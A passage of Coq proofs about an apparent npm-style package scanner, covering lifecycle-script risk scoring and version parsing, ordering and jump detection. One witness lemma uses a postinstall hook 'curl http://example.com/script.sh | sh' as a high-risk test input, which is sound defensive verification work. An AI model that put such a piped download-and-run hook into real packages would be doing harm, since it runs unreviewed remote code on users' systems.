  destruct (length (keys (extract packageData)) =? 0)%nat; [cbn; split; reflexivity |].
  destruct (analyzeScripts normalize (extract packageData)) as [[f t] h].
  cbn [deduction resultRiskLevel]. unfold deductionFor, riskLevelFor.
  assert (H75 : 1 <= mathFloor (weight rule * 0.75)).
  { unfold mathFloor. change 1 with (inject_Z (Qfloor 1)). rewrite <- Zle_Qle.
    apply Qfloor_resp_le. lra. }
  assert (H50 : 1 <= mathFloor (weight rule * 0.5)).
  { unfold mathFloor. change 1 with (inject_Z (Qfloor 1)). rewrite <- Zle_Qle.
    apply Qfloor_resp_le. lra. }
  destruct h; cbn [orb].
  - split; [intros H0; lra | discriminate].
  - destruct (3 <=? t)%nat eqn:E3.
    + apply Nat.leb_le in E3.
      destruct (Nat.leb_spec 2 t); [| lia]. split; [intros H0; lra | discriminate].
    + destruct (2 <=? t)%nat; [split; [intros H0; lra | discriminate] |].
      destruct (1 <=? t)%nat; [split; [intros H0; lra | discriminate] |].
      split; reflexivity.
Qed.
End LifecycleReportFacts.

Section LifecycleExtraWitnesses.
Import JS Regex Model LifecycleScriptRiskRule LifecycleSpec Examples LifecycleExamples.
Local Open Scope Q_scope.

(** The rule of weight 30 on the two-download scenario. *)
Lemma lifecycle_deduction_bounded_witness :
  0 <= deduction twoDownloadsResult /\ deduction twoDownloadsResult <= 30.
Proof.
  unfold twoDownloadsResult.
  apply (lifecycle_deduction_bounded extractLifecycleScripts normalizeScript
           (make 30) twoDownloads). discriminate.
Defined.

(** A piped install is high risk with the full weight deducted; the two
    downloads are not. *)
Lemma lifecycle_high_risk_iff_witness :
  resultRiskLevel
    (evaluate extractLifecycleScripts normalizeScript (make 30)
       (packageWith (Some TestInputs.pipedInstall))) = RiskHigh /\
  resultRiskLevel twoDownloadsResult <> RiskHigh.
Proof.
  split.
  - apply (proj1 (lifecycle_high_risk_iff extractLifecycleScripts normalizeScript
                    (make 30) (packageWith (Some TestInputs.pipedInstall)) eq_refl)).
    exists ("postinstall", "curl http://example.com/script.sh | sh").
    split; [left; reflexivity | vm_compute; reflexivity].
  - unfold twoDownloadsResult. intros H.
    apply (proj1 (lifecycle_high_risk_iff extractLifecycleScripts normalizeScript
                    (make 30) twoDownloads eq_refl)) in H.
    destruct H as (entry & [<- | [<- | []]] & Hm); vm_compute in Hm; discriminate.
Defined.

(** The report of the two-download scenario: two scripts, two findings, total
    risk 4. *)
Lemma lifecycle_report_consistent_witness :
  exists findings,
    details twoDownloadsResult = Report findings 2 2 4 false /\
    map hook findings = ["postinstall"; "preinstall"].
Proof.
  destruct (lifecycle_report_consistent extractLifecycleScripts normalizeScript
              (make 30) twoDownloads eq_refl)
    as (findings & totalRisk & hasHighRisk & Hd & _); [discriminate |].
  exists findings. unfold twoDownloadsResult.
  rewrite Hd. vm_compute in Hd. inversion Hd; subst. split; reflexivity.
Defined.

(** Weight 30: the two downloads have a deduction and a level, a package
    without scripts has neither. *)
Lemma lifecycle_zero_deduction_iff_witness :
  resultRiskLevel
    (evaluate extractLifecycleScripts normalizeScript (make 30) plainPackage)
  = RiskNone /\
  ~ deduction twoDownloadsResult == 0.
Proof.
  split.
  - apply (lifecycle_zero_deduction_iff extractLifecycleScripts normalizeScript
             (make 30) plainPackage); [discriminate | vm_compute; reflexivity].
  - unfold twoDownloadsResult. intros H.
    apply (lifecycle_zero_deduction_iff extractLifecycleScripts normalizeScript
             (make 30) twoDownloads) in H; [| discriminate].
    vm_compute in H. discriminate.
Defined.
End LifecycleExtraWitnesses.

(** ** Update-behaviour rule: versions *)

Section VersionFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.

Lemma parseInt_from_nonneg (digits : list ascii) (acc : Z) :
  (0 <= acc)%Z ->
  (0 <= fold_left (fun acc c => (acc * 10 + Z.of_nat (code c - 48))%Z) digits acc)%Z.
Proof.
  revert acc. induction digits as [| c digits IH]; intros acc Hacc; cbn [fold_left].
  - exact Hacc.
  - apply IH. lia.
Qed.

Lemma decimalValue_nonneg (digits : list ascii) : (0 <= decimalValue digits)%Z.
Proof. apply parseInt_from_nonneg. lia. Qed.

(** Safe integers are numbers as they stand. *)
Lemma toDouble_exact (n : Z) : (n <= maxSafeInteger)%Z -> toDouble n = n.
Proof.
  intros Hn. unfold toDouble. destruct (Z.leb_spec n maxSafeInteger); [reflexivity | lia].
Qed.

(** Above the safe integers the nearest number is above them too. *)
Lemma toDouble_above (n : Z) :
  (maxSafeInteger < n)%Z -> (maxSafeInteger < toDouble n)%Z.
Proof.
  intros Hn. unfold toDouble.
  destruct (Z.leb_spec n maxSafeInteger) as [Hle | _]; [lia |]. cbv zeta.
  assert (Hpos : (0 < n)%Z) by (unfold maxSafeInteger in Hn; lia).
  destruct (Z.log2_spec n Hpos) as [Hlow _].
  assert (Hk : (53 <= Z.log2 n)%Z).
  { change 53%Z with (Z.log2 (2 ^ 53)). apply Z.log2_le_mono.
    unfold maxSafeInteger in Hn. change (2 ^ 53)%Z with 9007199254740992%Z. lia. }
  set (e := (Z.log2 n - 52)%Z) in *.
  assert (He : (1 <= e)%Z) by (subst e; lia).
  assert (Hpow : (2 ^ Z.log2 n = 2 ^ 52 * 2 ^ e)%Z).
  { rewrite <- Z.pow_add_r by lia. f_equal. subst e. lia. }
  assert (Htwo : (2 <= 2 ^ e)%Z).
  { change 2%Z with (2 ^ 1)%Z at 1. apply Z.pow_le_mono_r; lia. }
  assert (Hq : (2 ^ 52 <= Z.shiftr n e)%Z).
  { rewrite Z.shiftr_div_pow2 by lia. apply Z.div_le_lower_bound; lia. }
  set (q := Z.shiftr n e) in *.
  assert (Hq' : forall q', (q <= q')%Z -> (maxSafeInteger < Z.shiftl q' e)%Z).
  { intros q' Hle. rewrite Z.shiftl_mul_pow2 by lia.
    unfold maxSafeInteger. change (2 ^ 52)%Z with 4503599627370496%Z in *. nia. }
  destruct (_ <? _)%Z; [apply Hq'; lia |].
  destruct (_ <? _)%Z; [apply Hq'; lia |].
  destruct (Z.even q); apply Hq'; lia.
Qed.

Lemma toDouble_nonneg (n : Z) : (0 <= n)%Z -> (0 <= toDouble n)%Z.
Proof.
  intros Hn. destruct (Z.le_gt_cases n maxSafeInteger) as [Hle | Hgt].
  - now rewrite toDouble_exact.
  - apply toDouble_above in Hgt. unfold maxSafeInteger in Hgt. lia.
Qed.

Lemma parseInt_nonneg (digits : list ascii) : (0 <= parseInt digits)%Z.
Proof. apply toDouble_nonneg, decimalValue_nonneg. Qed.

(** A parsed number is a safe integer exactly when the integer written is,
    and then it is that integer. *)
Lemma parseInt_safe (digits : list ascii) :
  (parseInt digits <= maxSafeInteger)%Z <-> (decimalValue digits <= maxSafeInteger)%Z.
Proof.
  unfold parseInt. split; intros H.
  - destruct (Z.le_gt_cases (decimalValue digits) maxSafeInteger) as [Hle | Hgt];
      [exact Hle |]. apply toDouble_above in Hgt. lia.
  - now rewrite toDouble_exact.
Qed.

Lemma parseInt_exact (digits : list ascii) :
  (decimalValue digits <= maxSafeInteger)%Z -> parseInt digits = decimalValue digits.
Proof. apply toDouble_exact. Qed.

Lemma numberThenDot_nonneg (s : list ascii) (n : Z) (rest : list ascii) :
  numberThenDot s = Some (n, rest) -> (0 <= n)%Z.
Proof.
  unfold numberThenDot. destruct (spanDigits s) as [[| c d] [| dotc r]]; try discriminate.
  destruct (isDot dotc); [| discriminate].
  intros [= <- _]. apply parseInt_nonneg.
Qed.

Lemma restOfLine_str (tail : list ascii) :
  restOfLine tail = true -> str tail <> EmptyString.
Proof. destruct tail; [discriminate | intros _; discriminate]. Qed.

Lemma spanDigits_app (d : list ascii) (rest : list ascii) :
  forallb isDigit d = true ->
  match rest with [] => True | c :: _ => isDigit c = false end ->
  spanDigits (d ++ rest) = (d, rest).
Proof.
  intros Hd Hrest. induction d as [| x d IH]; cbn [app spanDigits].
  - destruct rest as [| c r]; [reflexivity |]. cbn [spanDigits]. rewrite Hrest. reflexivity.
  - cbn [forallb] in Hd. apply andb_prop in Hd as [Hx Hd]. rewrite Hx, (IH Hd). reflexivity.
Qed.

Lemma numberThenDot_dotted (d rest : list ascii) :
  d <> [] -> forallb isDigit d = true ->
  numberThenDot (d ++ "."%char :: rest) = Some (parseInt d, rest).
Proof.
  intros Hne Hd. unfold numberThenDot.
  rewrite (spanDigits_app d ("."%char :: rest) Hd eq_refl).
  destruct d as [| c d]; [contradiction | reflexivity].
Qed.

Lemma chars_str (l : list ascii) : chars (str l) = l.
Proof. apply list_ascii_of_string_of_list_ascii. Qed.

Lemma parseVersion_clean (body : list ascii) :
  match body with [] => True | c :: _ => isDigit c = true end ->
  _parseVersion (String "v" (str body)) = _parseVersion (str body).
Proof.
  intros Hb. unfold _parseVersion.
  change (chars (String "v" (str body))) with ("v"%char :: chars (str body)).
  rewrite chars_str. destruct body as [| c t]; [reflexivity |].
  assert (Hc : (code c =? 118)%nat = false).
  { unfold isDigit, between in Hb. apply andb_prop in Hb as [_ Hb].
    apply Nat.leb_le in Hb. apply Nat.eqb_neq. lia. }
  rewrite Hc. reflexivity.
Qed.

(** X6.  What [_parseVersion] returns: the three numbers are not negative,
    a pre-release and a build are never both present (the greedy pre-release
    group takes a later plus sign with it), and neither is the empty
    string. *)
Theorem parseVersion_result_shape (version : string) (p : ParsedVersion) :
  _parseVersion version = Some p ->
  (0 <= major p)%Z /\ (0 <= minor p)%Z /\ (0 <= patch p)%Z /\
  (prerelease p = None \/ build p = None) /\
  prerelease p <> Some EmptyString /\ build p <> Some EmptyString.
Proof.
  unfold _parseVersion.
  set (clean := match chars version with
                | c :: t => if (code c =? 118)%nat then t else c :: t
                | [] => []
                end).
  destruct (numberThenDot clean) as [[maj s1] |] eqn:H1; [| discriminate].
  destruct (numberThenDot s1) as [[mnr s2] |] eqn:H2; [| discriminate].
  apply numberThenDot_nonneg in H1, H2.
  destruct (spanDigits s2) as [[| c d] rest]; [discriminate |].
  pose proof (parseInt_nonneg (c :: d)) as H3.
  destruct rest as [| x tail].
  - intros [= <-]. cbn. repeat apply conj; try assumption; try discriminate. now left.
  - destruct ((code x =? 45)%nat && restOfLine tail) eqn:Hpre.
    + apply andb_prop in Hpre as [_ Hpre]. apply restOfLine_str in Hpre.
      intros [= <-]. cbn. repeat apply conj; try assumption; try discriminate.
      * now right.
      * congruence.
    + destruct ((code x =? 43)%nat && restOfLine tail) eqn:Hbld; [| discriminate].
      apply andb_prop in Hbld as [_ Hbld]. apply restOfLine_str in Hbld.
      intros [= <-]. cbn. repeat apply conj; try assumption; try discriminate.
      * now left.
      * congruence.
Qed.

(** A version with a pre-release and a plus sign: everything after the
    hyphen is the pre-release. *)
Lemma parseVersion_result_shape_witness :
  exists p, _parseVersion "v1.20.3-beta+exp" = Some p /\
    (0 <= major p)%Z /\ (0 <= minor p)%Z /\ (0 <= patch p)%Z /\
    (prerelease p = None \/ build p = None) /\
    prerelease p <> Some EmptyString /\ build p <> Some EmptyString.
Proof.
  eexists. split; [reflexivity |].
  apply (parseVersion_result_shape "v1.20.3-beta+exp"). reflexivity.
Defined.

(** X7.  [_parseVersion] accepts every [digits.digits.digits] whose three
    numbers are safe integers (at most 2^53 - 1), with or without a leading
    [v], and returns the three integers as written, with neither pre-release
    nor build. *)
Theorem parseVersion_accepts_dotted (a b c : list ascii) :
  a <> [] -> b <> [] -> c <> [] ->
  forallb isDigit a = true -> forallb isDigit b = true ->
  forallb isDigit c = true ->
  (decimalValue a <= maxSafeInteger)%Z ->
  (decimalValue b <= maxSafeInteger)%Z ->
  (decimalValue c <= maxSafeInteger)%Z ->
  _parseVersion (str (dotted a b c)) = Some (plainVersion a b c) /\
  _parseVersion (String "v" (str (dotted a b c))) = Some (plainVersion a b c).
Proof.
  intros Ha Hb Hc Da Db Dc Sa Sb Sc.
  assert (Hplain : _parseVersion (str (dotted a b c)) = Some (plainVersion a b c)).
  { unfold _parseVersion, dotted. rewrite chars_str.
    assert (Hclean : match a ++ "."%char :: b ++ "."%char :: c with
                     | x :: t => if (code x =? 118)%nat then t else x :: t
                     | [] => []
                     end = a ++ "."%char :: b ++ "."%char :: c).
    { destruct a as [| x a']; [contradiction |]. cbn [app forallb] in *.
      apply andb_prop in Da as [Dx _].
      unfold isDigit, between in Dx. apply andb_prop in Dx as [_ Dx].
      apply Nat.leb_le in Dx.
      destruct (Nat.eqb_spec (code x) 118); [lia | reflexivity]. }
    rewrite Hclean, (numberThenDot_dotted a _ Ha Da), (numberThenDot_dotted b _ Hb Db).
    rewrite <- (app_nil_r c) at 1. rewrite (spanDigits_app c [] Dc I).
    unfold plainVersion. rewrite <- (parseInt_exact a Sa), <- (parseInt_exact b Sb),
      <- (parseInt_exact c Sc).
    destruct c as [| x c']; [contradiction | reflexivity]. }
  split; [exact Hplain |].
  rewrite parseVersion_clean; [exact Hplain |].
  unfold dotted. destruct a as [| x a']; [contradiction |].
  cbn [app forallb] in *. now apply andb_prop in Da as [Dx _].
Qed.

(** The version 10.4.27. *)
Lemma parseVersion_accepts_dotted_witness :
  _parseVersion "10.4.27" =
    Some {| major := 10; minor := 4; patch := 27; prerelease := None; build := None |} /\
  _parseVersion "v10.4.27" =
    Some {| major := 10; minor := 4; patch := 27; prerelease := None; build := None |}.
Proof.
  apply (parseVersion_accepts_dotted (chars "10") (chars "4") (chars "27"));
    first [discriminate | reflexivity].
Defined.
End VersionFacts.

(** ** Update-behaviour rule: ordering and jumps *)

Section VersionOrderFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.
Variable localeCompare : string -> string -> Z.

Lemma insertSorted_Permutation {A} (cmp : A -> A -> Z) (x : A) (l : list A) :
  Permutation (insertSorted cmp x l) (x :: l).
Proof.
  induction l as [| y t IH]; cbn [insertSorted]; [reflexivity |].
  destruct (0 <? cmp x y)%Z; [| reflexivity].
  rewrite IH. apply perm_swap.
Qed.

Lemma sortBy_Permutation {A} (cmp : A -> A -> Z) (l : list A) :
  Permutation (sortBy cmp l) l.
Proof.
  induction l as [| x t IH]; cbn [sortBy fold_right]; [reflexivity |].
  rewrite insertSorted_Permutation. now apply perm_skip.
Qed.

Lemma sortBy_length {A} (cmp : A -> A -> Z) (l : list A) :
  length (sortBy cmp l) = length l.
Proof. apply Permutation_length, sortBy_Permutation. Qed.

Lemma jumpsOf_step (rule : Rule) (prev curr : string) (rest : list string) :
  jumpsOf rule (prev :: curr :: rest) =
    if isUnusual (_analyzeVersionJump rule prev curr) then
      {| from := prev; to := curr;
         type := jumpType (_analyzeVersionJump rule prev curr);
         jumpMagnitude := magnitude (_analyzeVersionJump rule prev curr) |}
      :: jumpsOf rule (curr :: rest)
    else jumpsOf rule (curr :: rest).
Proof. reflexivity. Qed.

Lemma jumpsOf_length (rule : Rule) (l : list string) :
  (length (jumpsOf rule l) <= pred (length l))%nat.
Proof.
  induction l as [| prev [| curr rest] IH]; [cbn; lia | cbn; lia |].
  rewrite jumpsOf_step. cbn [length] in *.
  destruct (isUnusual (_analyzeVersionJump rule prev curr)); cbn [length]; lia.
Qed.

Lemma analyzeVersionJump_labelled (rule : Rule) (prev curr : string) :
  isUnusual (_analyzeVersionJump rule prev curr) = true ->
  jumpType (_analyzeVersionJump rule prev curr) <> None /\
  magnitude (_analyzeVersionJump rule prev curr) <> None.
Proof.
  unfold _analyzeVersionJump.
  destruct (_parseVersion prev) as [p |], (_parseVersion curr) as [c |];
    try discriminate.
  destruct (versionJumpThreshold rule <=? major c - major p)%Z;
    [intros _; split; discriminate |].
  destruct ((major c =? major p)%Z && (5 <? minor c - minor p)%Z);
    [intros _; split; discriminate | discriminate].
Qed.

Lemma jumpsOf_adjacent (rule : Rule) (l : list string) (j : Jump) :
  In j (jumpsOf rule l) ->
  (exists pre post, l = pre ++ from j :: to j :: post) /\
  isUnusual (_analyzeVersionJump rule (from j) (to j)) = true /\
  type j = jumpType (_analyzeVersionJump rule (from j) (to j)) /\
  jumpMagnitude j = magnitude (_analyzeVersionJump rule (from j) (to j)).
Proof.
  induction l as [| prev [| curr rest] IH]; [contradiction | contradiction |].
  rewrite jumpsOf_step. intros Hj.
  assert (Hrest : In j (jumpsOf rule (curr :: rest)) ->
                  (exists pre post, prev :: curr :: rest = pre ++ from j :: to j :: post) /\
                  isUnusual (_analyzeVersionJump rule (from j) (to j)) = true /\
                  type j = jumpType (_analyzeVersionJump rule (from j) (to j)) /\
                  jumpMagnitude j = magnitude (_analyzeVersionJump rule (from j) (to j))).
  { intros H. destruct (IH H) as ((pre & post & Heq) & Hrest).
    split; [| exact Hrest]. exists (prev :: pre), post. rewrite Heq. reflexivity. }
  destruct (isUnusual (_analyzeVersionJump rule prev curr)) eqn:Hu; [| auto].
  destruct Hj as [<- | Hj]; [| auto]. cbn.
  split; [exists [], rest; reflexivity | auto].
Qed.

(** X8.  On two versions that parse and whose numbers are safe integers
    (at most 2^53 - 1, so read as written), [_compareVersionStrings] does
    not consult the collation: it is zero exactly when the numeric triples
    agree (pre-release and build are ignored), negative exactly when the
    first precedes the second, and swapping the arguments flips the sign. *)
Theorem compareVersionStrings_on_parsed (a b : string) (pa pb : ParsedVersion) :
  _parseVersion a = Some pa -> _parseVersion b = Some pb ->
  safeVersion pa -> safeVersion pb ->
  (_compareVersionStrings localeCompare a b = 0%Z <-> triple pa = triple pb) /\
  ((_compareVersionStrings localeCompare a b < 0)%Z <-> precedes pa pb) /\
  _compareVersionStrings localeCompare b a
    = (- _compareVersionStrings localeCompare a b)%Z.
Proof.
  intros Ha Hb _ _. unfold _compareVersionStrings, triple, precedes.
  rewrite Ha, Hb.
  assert (Ht : (major pa, minor pa, patch pa) = (major pb, minor pb, patch pb)
               <-> major pa = major pb /\ minor pa = minor pb /\ patch pa = patch pb).
  { split; [intros [= H1 H2 H3]; auto |].
    intros (H1 & H2 & H3). rewrite H1, H2, H3. reflexivity. }
  rewrite Ht.
  destruct (Z.eqb_spec (major pa) (major pb)), (Z.eqb_spec (major pb) (major pa)),
           (Z.eqb_spec (minor pa) (minor pb)), (Z.eqb_spec (minor pb) (minor pa)),
           (Z.eqb_spec (patch pa) (patch pb)), (Z.eqb_spec (patch pb) (patch pa));
    cbn [negb]; lia.
Qed.

(** X9.  With a positive jump threshold an unusual jump always goes upward:
    both versions parse, the first precedes the second under
    [_compareVersionStrings], and the reported magnitude is at least the
    threshold (major jump) or at least 6 (minor jump). *)
Theorem unusual_jump_goes_upward (rule : Rule) (prev curr : string) :
  (0 < versionJumpThreshold rule)%Z ->
  isUnusual (_analyzeVersionJump rule prev curr) = true ->
  (_compareVersionStrings localeCompare prev curr < 0)%Z /\
  ((jumpType (_analyzeVersionJump rule prev curr) = Some MajorJump /\
    exists m, magnitude (_analyzeVersionJump rule prev curr) = Some m /\
              (versionJumpThreshold rule <= m)%Z) \/
   (jumpType (_analyzeVersionJump rule prev curr) = Some MinorJump /\
    exists m, magnitude (_analyzeVersionJump rule prev curr) = Some m /\
              (6 <= m)%Z)).
Proof.
  intros Hpos. unfold _analyzeVersionJump, _compareVersionStrings.
  destruct (_parseVersion prev) as [p |], (_parseVersion curr) as [c |];
    try discriminate.
  destruct (Z.leb_spec (versionJumpThreshold rule) (major c - major p)) as [Hmaj | Hmaj].
  - intros _. split.
    + destruct (Z.eqb_spec (major p) (major c)); cbn [negb]; lia.
    + left. split; [reflexivity |]. eexists. split; [reflexivity | exact Hmaj].
  - destruct (Z.eqb_spec (major c) (major p)) as [E | N]; cbn [andb]; [| discriminate].
    destruct (Z.ltb_spec 5 (minor c - minor p)) as [Hmin | Hmin]; [| discriminate].
    intros _. split.
    + destruct (Z.eqb_spec (major p) (major c)); cbn [negb]; [| lia].
      destruct (Z.eqb_spec (minor p) (minor c)); cbn [negb]; lia.
    + right. split; [reflexivity |]. eexists. split; [reflexivity | lia].
Qed.

(** X10.  [_detectVersionJumps] reports at most one jump per adjacent pair
    of the sorted list, so fewer jumps than versions; every jump joins two
    of the given versions and carries a type and a magnitude. *)
Theorem detectVersionJumps_within_versions (rule : Rule) (versions : list string) :
  (length (_detectVersionJumps localeCompare rule versions)
   <= pred (length versions))%nat /\
  Forall (fun j => In (from j) versions /\ In (to j) versions /\
                   type j <> None /\ jumpMagnitude j <> None)
         (_detectVersionJumps localeCompare rule versions).
Proof.
  unfold _detectVersionJumps. split.
  - rewrite <- (sortBy_length (_compareVersionStrings localeCompare) versions).
    apply jumpsOf_length.
  - apply List.Forall_forall. intros j Hj.
    apply jumpsOf_adjacent in Hj as ((pre & post & Heq) & Hu & Ht & Hm).
    pose proof (sortBy_Permutation (_compareVersionStrings localeCompare) versions) as Hp.
    apply analyzeVersionJump_labelled in Hu as [Hu1 Hu2].
    repeat apply conj.
    + apply (Permutation_in _ Hp). rewrite Heq. apply in_or_app. right. now left.
    + apply (Permutation_in _ Hp). rewrite Heq. apply in_or_app. right. right. now left.
    + congruence.
    + congruence.
Qed.
End VersionOrderFacts.

Section VersionOrderWitnesses.
Import JS Regex Model UpdateBehaviorRule UpdateSpec UpdateExamples.

(** A pre-release compares equal to its release, and 1.9.0 comes before
    1.10.0. *)
Lemma compareVersionStrings_on_parsed_witness :
  _compareVersionStrings localeCompare "1.2.3-alpha" "1.2.3" = 0%Z /\
  (_compareVersionStrings localeCompare "1.9.0" "1.10.0" < 0)%Z.
Proof.
  split.
  - destruct (compareVersionStrings_on_parsed localeCompare "1.2.3-alpha" "1.2.3"
                _ _ eq_refl eq_refl) as (Hzero & _ & _);
      [repeat split; discriminate .. |].
    apply Hzero. reflexivity.
  - destruct (compareVersionStrings_on_parsed localeCompare "1.9.0" "1.10.0"
                _ _ eq_refl eq_refl) as (_ & Hneg & _);
      [repeat split; discriminate .. |].
    apply Hneg. right. split; [reflexivity |]. left. reflexivity.
Defined.

(** The default rule on the step from 1.0.0 to 3.0.0. *)
Lemma unusual_jump_goes_upward_witness :
  (_compareVersionStrings localeCompare "1.0.0" "3.0.0" < 0)%Z.
Proof.
  apply (unusual_jump_goes_upward localeCompare (defaultRule (Return None))
           "1.0.0" "3.0.0"); reflexivity.
Defined.
End VersionOrderWitnesses.

(** ** Update-behaviour rule: the window of versions *)

Section WindowFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.

Lemma relIndex_bounds (len i : Z) :
  (0 <= len)%Z -> (0 <= relIndex len i <= len)%Z.
Proof. intros Hlen. unfold relIndex. destruct (Z.ltb_spec i 0); lia. Qed.

Lemma slice_to_end {A} (l : list A) (start : Z) :
  slice l start None = drop (Z.to_nat (relIndex (Z.of_nat (length l)) start)) l.
Proof.
  unfold slice.
  pose proof (relIndex_bounds (Z.of_nat (length l)) start ltac:(lia)) as Hk.
  apply take_ge. rewrite length_drop. lia.
Qed.

Lemma slice_from_start {A} (l : list A) (stop : Z) :
  (0 <= stop)%Z -> slice l 0 (Some stop) = take (Z.to_nat stop) l.
Proof.
  intros Hstop. unfold slice, relIndex.
  change (0 <? 0)%Z with false. cbv iota.
  destruct (Z.ltb_spec stop 0) as [Hneg | _]; [lia |].
  replace (Z.to_nat (Z.min 0 (Z.of_nat (length l)))) with 0%nat by lia.
  rewrite drop_0.
  destruct (Z.le_ge_cases stop (Z.of_nat (length l))) as [Hle | Hge].
  - f_equal. lia.
  - rewrite !take_ge by lia. reflexivity.
Qed.

Lemma slice_last_length {A} (l : list A) (n : Z) :
  (0 < n)%Z -> (length (slice l (- n) None) <= Z.to_nat n)%nat.
Proof.
  intros Hn. rewrite slice_to_end, length_drop. unfold relIndex.
  destruct (Z.ltb_spec (- n) 0); lia.
Qed.

Lemma indexOfFrom_absent (x : string) (l : list string) (i : Z) :
  (0 <= i)%Z -> (indexOfFrom x l i < 0)%Z -> ~ In x l.
Proof.
  revert i. induction l as [| y t IH]; intros i Hi Hneg; [intros [] |].
  cbn [indexOfFrom] in Hneg. destruct (String.eqb_spec x y) as [-> | Hne]; [lia |].
  intros [Heq | Hin]; [congruence |]. apply (IH (i + 1)%Z); [lia | exact Hneg | exact Hin].
Qed.

Lemma indexOfFrom_found (x : string) (l : list string) (i : Z) :
  (0 <= i)%Z -> (0 <= indexOfFrom x l i)%Z ->
  (i <= indexOfFrom x l i)%Z /\
  last (take (Z.to_nat (indexOfFrom x l i - i + 1)) l) = Some x.
Proof.
  revert i. induction l as [| y t IH]; intros i Hi Hfound; cbn [indexOfFrom] in *; [lia |].
  destruct (String.eqb_spec x y) as [-> | Hne].
  - split; [lia |]. replace (Z.to_nat (i - i + 1)) with 1%nat by lia.
    destruct t; reflexivity.
  - destruct (IH (i + 1)%Z ltac:(lia) Hfound) as [Hle Hlast]. split; [lia |].
    replace (Z.to_nat (indexOfFrom x t (i + 1) - i + 1))
      with (S (Z.to_nat (indexOfFrom x t (i + 1) - (i + 1) + 1))) by lia.
    cbn [take]. rewrite last_cons, Hlast. reflexivity.
Qed.

Lemma drop_segment {A} (k : nat) (l : list A) : exists pre, l = pre ++ drop k l.
Proof. exists (take k l). symmetry. apply take_drop. Qed.

(** X11.  The window of versions that [_analyzeVersionChanges] diffs is a
    run of consecutive entries of the sorted version list.  With a positive
    limit it has at most that many entries.  It either ends at the current
    version (the snapshot's, or else the last of the list), or the current
    version is not in it and it is the last five or fewer of the list. *)
Theorem versionsToAnalyze_window (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) :
  let versions := sortedVersions versionHistory in
  let window := versionsToAnalyze rule currentPackage versionHistory in
  (exists pre post, versions = pre ++ window ++ post) /\
  ((0 < maxVersionsToAnalyze rule)%Z ->
   (length window <= Z.to_nat (maxVersionsToAnalyze rule))%nat) /\
  (forall v, orElse (version currentPackage) (lastVersion versions) = Some v ->
     last window = Some v \/
     (~ In v window /\ (length window <= 5)%nat /\
      exists pre, versions = pre ++ window)).
Proof.
  intros versions window. subst window. unfold versionsToAnalyze.
  fold versions.
  set (recent := slice versions (- maxVersionsToAnalyze rule) None).
  assert (Hrecent : exists pre, versions = pre ++ recent).
  { subst recent. rewrite slice_to_end. apply drop_segment. }
  assert (Hlen : (0 < maxVersionsToAnalyze rule)%Z ->
                 (length recent <= Z.to_nat (maxVersionsToAnalyze rule))%nat).
  { intros Hpos. subst recent. now apply slice_last_length. }
  destruct Hrecent as (pre & Hpre).
  set (currentVersion := orElse (version currentPackage) (lastVersion versions)).
  destruct currentVersion as [v |] eqn:Hcur; subst currentVersion.
  - destruct (Z.leb_spec 0 (indexOf recent v)) as [Hfound | Habsent].
    + rewrite slice_from_start by lia. repeat apply conj.
      * exists pre, (drop (Z.to_nat (indexOf recent v + 1)) recent).
        rewrite take_drop. exact Hpre.
      * intros Hpos. rewrite length_take. specialize (Hlen Hpos). lia.
      * intros v' [= <-]. left.
        destruct (indexOfFrom_found v recent 0 ltac:(lia) Hfound) as [_ Hlast].
        unfold indexOf. rewrite Z.sub_0_r in Hlast. exact Hlast.
    + rewrite slice_to_end.
      destruct (drop_segment (Z.to_nat (relIndex (Z.of_nat (length recent)) (-5))) recent)
        as (pre' & Hpre').
      repeat apply conj.
      * exists (pre ++ pre'), []. rewrite app_nil_r, <- app_assoc, <- Hpre'. exact Hpre.
      * intros Hpos. rewrite length_drop. specialize (Hlen Hpos). lia.
      * intros v' [= <-]. right. repeat apply conj.
        -- intros Hin. apply (indexOfFrom_absent v recent 0 ltac:(lia) Habsent).
           rewrite Hpre'. apply in_or_app. now right.
        -- rewrite length_drop. unfold relIndex. change (-5 <? 0)%Z with true.
           cbv iota. lia.
        -- exists (pre ++ pre'). rewrite <- app_assoc, <- Hpre'. exact Hpre.
  - change (0 <=? -1)%Z with false. cbv iota. rewrite slice_to_end.
    destruct (drop_segment (Z.to_nat (relIndex (Z.of_nat (length recent)) (-5))) recent)
      as (pre' & Hpre').
    repeat apply conj.
    + exists (pre ++ pre'), []. rewrite app_nil_r, <- app_assoc, <- Hpre'. exact Hpre.
    + intros Hpos. rewrite length_drop. specialize (Hlen Hpos). lia.
    + intros v' [=].
Qed.
End WindowFacts.

(** ** Update-behaviour rule: differences between two versions *)

Section ChangeFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.
Local Open Scope Q_scope.
Variable extractLifecycleScripts : PackageData -> StringMap.
Variable normalizeScript : string -> string.
Variable extractDependencies : PackageData -> DepType -> option StringMap.

Lemma Qltb_lt (a b : Q) : Qltb a b = true <-> a < b.
Proof.
  unfold Qltb. rewrite negb_true_iff. split.
  - intros H. apply Qnot_le_lt. intros Hle. apply Qle_bool_iff in Hle. congruence.
  - intros H. destruct (Qle_bool b a) eqn:E; [| reflexivity].
    apply Qle_bool_iff in E. apply Qlt_not_le in H. contradiction.
Qed.

Lemma Qltb_ge (a b : Q) : Qltb a b = false <-> b <= a.
Proof.
  unfold Qltb. rewrite negb_false_iff. apply Qle_bool_iff.
Qed.

Lemma Qlt_div_iff (t a p : Q) : 0 < p -> (t < a / p <-> t * p < a).
Proof.
  intros Hp. rewrite <- (Qmult_lt_r t (a / p) p Hp).
  assert (E : a / p * p == a) by (field; lra).
  rewrite E. reflexivity.
Qed.

Lemma includes_In (l : list string) (x : string) : includes l x = true <-> In x l.
Proof.
  unfold includes. rewrite existsb_exists. split.
  - intros (y & Hy & Heq). apply String.eqb_eq in Heq. now subst.
  - intros Hx. exists x. split; [exact Hx | apply String.eqb_refl].
Qed.

Lemma includes_not_In (l : list string) (x : string) :
  includes l x = false <-> ~ In x l.
Proof.
  rewrite <- includes_In. destruct (includes l x); split; congruence.
Qed.

Lemma getProp_In {V} (o : list (string * V)) (k : string) (v : V) :
  getProp o k = Some v -> In (k, v) o.
Proof.
  induction o as [| [k' v'] t IH]; cbn [getProp]; [discriminate |].
  destruct (String.eqb_spec k k') as [-> | Hne].
  - intros [= ->]. now left.
  - intros H. right. now apply IH.
Qed.

Lemma getProp_NoDup {V} (o : list (string * V)) (e : string * V) :
